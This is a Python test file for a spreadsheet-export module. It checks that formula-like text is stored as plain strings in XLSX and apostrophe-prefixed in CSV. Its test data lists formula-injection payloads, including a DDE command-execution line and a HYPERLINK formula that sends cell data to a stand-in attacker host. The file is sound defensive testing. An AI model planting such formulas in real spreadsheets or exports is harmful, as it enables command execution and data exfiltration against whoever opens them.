"""The one rule for spreadsheet cells (ipplan/lib/safe_cells.py), read back by openpyxl and csv."""

import csv
import datetime
import io

import openpyxl
import pytest
import time_machine

from ipplan.lib.admin_exports import SafeCSV, SafeXLSX
from ipplan.lib.safe_cells import csv_value, export_filename, is_formula_like, set_cell_value

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+86 22 2439 0000",
    "-12% 同比下降",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_a_string_cell_shown_as_typed(text):
    wb = openpyxl.Workbook()
    set_cell_value(wb.active["A1"], text)
    buffer = io.BytesIO()
    wb.save(buffer)
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value == text


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_an_apostrophe_in_csv_only(text):
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text
    assert csv_value("建立知识产权纠纷调解机制") == "建立知识产权纠纷调解机制"
    assert csv_value(-12) == -12  # numbers are not text


def test_admin_formats_keep_dates_and_neutralise_text():
    import tablib

    dataset = tablib.Dataset(headers=["措施", "截止日期"], title="任务")
    dataset.append([ATTACKS[0], datetime.date(2021, 12, 31)])
    content = SafeCSV().export_data(dataset)
    assert content.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(content[1:]))) == [
        ["措施", "截止日期"],
        ["'" + ATTACKS[0], "2021-12-31"],
    ]
    ws = openpyxl.load_workbook(io.BytesIO(SafeXLSX().export_data(dataset))).active
    assert ws.title == "任务"
    assert ws["A2"].value == ATTACKS[0] and ws["A2"].data_type == "s"
    assert ws["B2"].is_date and ws["B2"].value == datetime.datetime(2021, 12, 31)


@time_machine.travel(datetime.datetime(2026, 12, 31, 17, 0, tzinfo=datetime.UTC))  # 01-01 in Shanghai
def test_file_names_use_the_local_date_and_no_forbidden_characters():
    assert export_filename("任务/分工:表", "csv") == "任务分工表-20270101.csv"
